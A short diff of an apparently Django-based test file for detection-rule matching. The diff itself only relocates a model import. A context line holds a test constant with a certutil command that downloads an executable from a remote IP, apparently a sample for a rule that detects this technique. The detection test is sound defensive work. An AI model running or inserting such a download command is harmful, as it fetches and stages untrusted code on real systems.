@@ -11,8 +11,8 @@ from django.core.management import call_command
 
 from catalog.matching import forget_compiled
 from catalog.matching_files import jobs
-from catalog.matching_files.models import MatchJob, RuleTestEvent
 from catalog.models import Rule
+from catalog.models.matching_jobs import MatchJob, RuleTestEvent
 from tests.constants import CERTUTIL_ID, CORPUS
 
 COMMAND = "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe"
